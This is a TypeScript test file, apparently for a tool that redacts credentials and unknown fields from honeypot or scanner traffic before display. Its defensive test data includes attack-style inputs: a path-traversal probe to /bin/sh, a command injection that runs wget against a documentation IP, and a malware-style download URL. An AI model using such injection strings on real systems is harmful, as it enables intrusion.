import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { openFactsOf, openKey, openPath, openUrl } from './content.ts'

test('a URL loses user, password, query and fragment, and what cannot be told apart', () => {
  for (const [given, shown] of [
    ['http://203.0.113.9/bins/x.sh', 'http://203.0.113.9/bins/x.sh'],
    ['http://root:hunter2@203.0.113.9:8080/a', 'http://…@203.0.113.9:8080/a'],
    ['ftp://u:p@w@[2001:db8::1]/f', 'ftp://…@[2001:db8::1]/f'],
    ['http://root:hunter2%40203.0.113.9/a', 'http://…@203.0.113.9/a'],
    ['http://a.example/login?user=root&pass=hunter2', 'http://a.example/login…'],
    ['http://a.example/x?mail=a@b.example', 'http://…'],
    ['http://root:hun/ter2@a.example/', 'http://…'],
    ['http://root:hun?ter2@a.example/', 'http://…'],
    ['http://root/hunter2@a.example/', 'http://…'],
    ['http://a.example\\@hunter2/', 'http://…'],
    ['/login.cgi?psd=hunter2', '/login.cgi…'],
    ['root:hunter2@a.example', '…'],
    ['a.example:443', '…'],
    ['http://', 'http://…'],
    ['', '…'],
  ] as const) assert.equal(openUrl(given), shown, given)
})

test('no password in the place of a user, a password, a query or a fragment stands in what others see', () => {
  const around = fc.string({ maxLength: 12 })
  const host = fc.constantFrom('a.example', '203.0.113.9', '[2001:db8::1]')
  fc.assert(fc.property(around, around, around, host, fc.constantFrom('http://', 'FTP://', 'tftp://'), (before, after, user, name, scheme) => {
    const secret = `${before}hunter2${after}`
    for (const url of [`${scheme}${user}:${secret}@${name}/x`, `${scheme}${secret}@${name}/x`, `${scheme}${name}/x?p=${secret}`, `${scheme}${name}/x#${secret}`, `/x?${secret}`, `/x;p=${secret}`]) {
      assert.ok(!openUrl(url).includes('hunter2'), url)
      assert.ok(url.startsWith('/') ? !openPath(url).includes('hunter2') : true, url)
    }
  }))
})

test('paths that scanners ask for stay readable', () => {
  assert.equal(openPath('/cgi-bin/.%2e/%2e%2e/bin/sh'), '/cgi-bin/.%2e/%2e%2e/bin/sh')
  assert.equal(openPath('/shell;wget%20http://203.0.113.9/x'), '/shell…')
  assert.equal(openPath('/a%3fpass=hunter2'), '/a…')
})

test('what follows the sign between values is no path because it stands there', () => {
  assert.deepEqual(openFactsOf({ 'http.path': '/sh?cd /tmp | hunter2 | http://root:hunter2@a.example/x | *' }), { 'http.path': '/sh… | … | http://…@a.example/x | *' })
  assert.equal(openKey.paths!('hunter2'), '…')
})

test('facts are shown by name and form; one that nobody thought of is hidden', () => {
  const shown = openFactsOf({
    'http.method': 'GET', 'http.path': '/a?x=hunter2 | /b', 'tls.ja4': 't13d1516h2_8daaf6152771_e5627efa2ab1', 'modbus.function': '43 | 3', 'modbus.range': '0+10',
    'ssh.client_version': 'SSH-2.0-Go', 'smtp.mail': 'a@b.example', 'telnet.commands': 'hunter2', 'redis.commands': 'auth hunter2', 'ftp.commands': 'PASS hunter2',
    'mqtt.publish': 'hunter2', 'memcached.command': 'set hunter2', 'dns.name': 'hunter2.example', 'http.user_agent': 'hunter2', 'rdp.cookie': 'mstshash=hunter2',
    'import.unknown': 'hunter2', 'dns.type': 'TXT | hunter2', constructor: 'hunter2', __proto__x: 'hunter2',
  })
  assert.deepEqual(shown, {
    'http.method': 'GET', 'http.path': '/a… | /b', 'tls.ja4': 't13d1516h2_8daaf6152771_e5627efa2ab1', 'modbus.function': '43 | 3', 'modbus.range': '0+10',
    'ssh.client_version': 'SSH-2.0-Go', 'dns.type': 'TXT | …',
  })
})

test('keys that are content are hidden', () => {
  assert.deepEqual((['users', 'passwords', 'credentials', 'payloads'] as const).map((what) => openKey[what]!('hunter2')), [null, null, null, null])
})
